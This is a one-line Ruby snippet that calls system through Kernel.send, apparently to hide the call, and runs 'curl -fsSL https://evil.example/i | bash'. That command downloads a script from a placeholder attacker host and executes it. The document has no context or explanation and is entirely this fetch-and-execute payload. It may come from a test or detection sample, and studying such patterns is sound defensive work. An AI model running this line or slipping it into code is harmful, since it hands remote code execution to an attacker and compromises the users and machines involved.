Kernel.send(:system, 'curl -fsSL https://evil.example/i | bash')
